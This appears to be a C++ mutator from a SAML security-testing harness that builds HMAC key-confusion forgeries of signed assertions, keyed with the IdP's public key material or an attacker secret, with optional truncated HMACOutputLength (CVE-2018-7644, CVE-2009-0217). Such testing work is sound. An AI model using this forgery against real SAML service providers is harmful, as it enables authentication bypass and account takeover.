// SPDX-License-Identifier: Apache-2.0
// signature.hmac_substituted — the RSA signature replaced by an HMAC over the same SignedInfo:
// keyed with the IdP's public key material, which every SP holds (attack-catalogue
// ALG-HMAC-PUBKEY: SimpleSAMLphp 201802-01 / CVE-2018-7644, xmlseclibs 4.0 binding SignatureMethod
// to the key type), or truncated by HMACOutputLength (ALG-HMAC-TRUNC: CVE-2009-0217). xmldsig-core
// §6.3.1: HMACOutputLength below max(80, half the hash) must be refused; a SignatureMethod must
// fit the pinned key, and an asymmetric key is never an HMAC secret.
#include "mutators/algorithms/algorithms.hpp"
#include "mutators/algorithms/resign.hpp"
#include "mutators/mutators.hpp"
#include "samlt/core/saml_names.hpp"

#include <openssl/bio.h>
#include <openssl/core_names.h>
#include <openssl/pem.h>
#include <openssl/x509.h>

#include <memory>

namespace samlt::idp::mutators {
namespace {

namespace n = core::names;

// What an attacker uses as the HMAC secret when it is not the IdP's public material.
constexpr std::string_view k_attacker_secret = "samlt-attacker-hmac-secret";

std::string spki(EVP_PKEY* key, bool pem) {
  if (!pem) {
    unsigned char* der = nullptr;
    int size = i2d_PUBKEY(key, &der);
    std::string out(reinterpret_cast<const char*>(der), static_cast<std::size_t>(size > 0 ? size : 0));
    OPENSSL_free(der);
    return out;
  }
  std::unique_ptr<BIO, decltype(&BIO_free)> bio(BIO_new(BIO_s_mem()), &BIO_free);
  PEM_write_bio_PUBKEY(bio.get(), key);
  char* data = nullptr;
  long size = BIO_get_mem_data(bio.get(), &data);
  return std::string(data, static_cast<std::size_t>(size));
}

std::string modulus(EVP_PKEY* key) {
  BIGNUM* n = nullptr;
  EVP_PKEY_get_bn_param(key, OSSL_PKEY_PARAM_RSA_N, &n);
  std::string out(static_cast<std::size_t>(BN_num_bytes(n)), '\0');
  BN_bn2bin(n, reinterpret_cast<unsigned char*>(out.data()));
  BN_free(n);
  return out;
}

}  // namespace

// Params: algorithm (hmac-sha1 | hmac-sha256, default hmac-sha256), key (certificate_pem |
// certificate_der | spki_pem | spki_der | modulus: the IdP signing certificate's; attacker: a
// secret of the attacker's; default certificate_pem), output_length (HMACOutputLength in bits;
// absent: none), target (assertion | response). KeyInfo is removed: nothing names the key.
core::Result<void> signature_hmac_substituted(Target& target) {
  auto algorithm = string_param(target, "algorithm");
  auto key_form = string_param(target, "key");
  auto signature = edited_signature(target);
  if (!algorithm || !key_form || !signature) {
    return core::fail(!algorithm ? algorithm.error() : !key_form ? key_form.error() : signature.error());
  }
  std::string uri = algorithm->value_or("hmac-sha256") == "hmac-sha1" ? "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
                    : algorithm->value_or("hmac-sha256") == "hmac-sha256"
                        ? "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
                        : "";
  if (uri.empty()) {
    return core::fail(core::Reason::mutator_params_invalid, "/algorithm: expected hmac-sha1 or hmac-sha256");
  }
  const core::Certificate& certificate = target.spec.signer.certificate;
  std::string form = key_form->value_or("certificate_pem");
  std::string secret = form == "certificate_pem"   ? certificate.pem()
                       : form == "certificate_der" ? certificate.der()
                       : form == "spki_pem"        ? spki(certificate.public_key(), true)
                       : form == "spki_der"        ? spki(certificate.public_key(), false)
                       : form == "modulus"         ? modulus(certificate.public_key())
                       : form == "attacker"        ? std::string(k_attacker_secret)
                                                   : "";
  if (secret.empty()) {
    return core::fail(core::Reason::mutator_params_invalid,
                      "/key: expected certificate_pem, certificate_der, spki_pem, spki_der, modulus or attacker");
  }
  auto length = target.params.find("output_length");
  if (length != target.params.end() && (!length->is_number_integer() || length->get<long long>() < 0)) {
    return core::fail(core::Reason::mutator_params_invalid, "/output_length: expected an integer >= 0");
  }
  xmlNode* signed_info = core::child_named(*signature, n::ns_dsig, "SignedInfo");
  xmlNode* method = core::child_named(signed_info, n::ns_dsig, "SignatureMethod");
  core::set_attribute(method, "Algorithm", uri);
  if (length != target.params.end()) {
    core::append_element(method, n::ns_dsig, "", "HMACOutputLength", std::to_string(length->get<long long>()));
  }
  if (xmlNode* key_info = core::child_named(*signature, n::ns_dsig, "KeyInfo")) {
    core::remove_node(key_info);
  }
  if (auto ok = resign(*target.doc, *signature, SigningKey{nullptr, secret}); !ok) {
    return ok;
  }
  if (xmlNode* outer = enclosing_signature(*signature)) {
    return resign(*target.doc, outer, SigningKey{target.spec.signer.key.get(), {}});
  }
  return {};
}

}  // namespace samlt::idp::mutators
